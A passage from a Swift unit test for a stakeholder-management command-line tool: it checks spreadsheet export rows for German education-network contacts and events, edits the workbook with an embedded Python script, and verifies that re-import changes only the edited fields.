                                  "Schlüsselperson", "Themen", "Schlagwörter", "Letzter Kontakt", "E-Mail", "Telefon", "Notizen", "Mitverantwortliche Landkreise"])
        XCTAssertEqual(cells(personRow), [person, "lk-augsburg", "Jörg „Jo“ Weiß-Öztürk", "Person", nil, "Schulleiter; Stellvertretung", nil, nil, "Kritiker", nil,
                                          nil, nil, nil, "2026-04-24", "j.w@schule.example", "0821 123456", "Zeile 1\nZeile 2 👍", nil])
        let orgRow = try XCTUnwrap(akRows.first { $0.first as? String == org })
        XCTAssertEqual(cells(orgRow), [org, "lk-augsburg", "Volkshochschule Augsburger Land e.V.", "Organisation", nil, nil, "Erwachsenenbildung",
                                       "Bildungsbeirat\nSteuerungsgremium", "Fürsprecher", "mittel", "ja", "Grundbildung", nil, nil, nil, nil,
                                       "Ansprechpartnerin wechselt 2027", nil])
        XCTAssertEqual(cells(evRows[1]), [event, "lk-augsburg", "Bildungskonferenz 2026", "Bildungskonferenz", "2026-03-14", "2026-03-15", nil,
                                          "Netzwerk stärken\nAngebote sichtbar machen", "Kitas\nSchulen", "85", nil, nil, nil, nil, nil])
        XCTAssertEqual(evHeader, ["ID", "Landkreis", "Titel", "Art", "Beginn", "Ende", "Ort", "Ziele", "Zielgruppen", "Teilnehmende", "Partner",
                                  "Presse", "Ergebnisse", "Schlagwörter", "Mitverantwortliche Landkreise"])

        let files = { (id: String) in self.kbm.ok("show", id, "--file").stdout }
        let (orgBefore, personBefore, eventBefore) = (files(org), files(person), files(event))
        python("""
            import sys, datetime, openpyxl
            wb = openpyxl.load_workbook(sys.argv[1])
            def col(ws, name): return [c.value for c in ws[1]].index(name) + 1
            ak = wb['Akteur']
            for row in ak.iter_rows(min_row=2):
                if row[0].value == sys.argv[2]:
                    row[col(ak, 'Einfluss') - 1].value = 'hoch'
                    row[col(ak, 'Gremien') - 1].value = 'Bildungsbeirat\\nKreistag'
            ev = wb['Veranstaltung']
            ev.cell(row=2, column=col(ev, 'Ende')).value = datetime.datetime(2026, 3, 16)
            wb.save(sys.argv[1])
            """, [path, org])
        let imported = kbm.ok("import", path, "--dry-run")
        XCTAssertTrue(imported.stdout.contains("  change  sheet \"Akteur\" row "), imported.stdout)
        XCTAssertTrue(imported.stdout.contains("\(org) \"Volkshochschule Augsburger Land e.V.\": Gremien, Einfluss"), imported.stdout)
        XCTAssertTrue(imported.stdout.contains("\(event) \"Bildungskonferenz 2026\": Ende"), imported.stdout)
        kbm.ok("import", path)
        XCTAssertEqual(files(person), personBefore, "untouched rows stay byte for byte")
        func fieldLines(_ text: String) -> Set<String> { Set(text.split(separator: "\n").map(String.init).filter { !$0.hasPrefix("updated:") }) }
        let orgAfter = files(org), eventAfter = files(event)
        XCTAssertEqual(fieldLines(orgBefore).symmetricDifference(fieldLines(orgAfter)), ["influence: medium", "influence: high", "  - Steuerungsgremium", "  - Kreistag"])
        XCTAssertEqual(fieldLines(eventBefore).symmetricDifference(fieldLines(eventAfter)), ["end: \"2026-03-15\"", "end: \"2026-03-16\""])
        // Once more: nothing left to change.
        XCTAssertTrue(kbm.ok("import", path).stdout.hasPrefix("Imported \(path): 0 added, 0 changed, 3 unchanged"))
    }
}
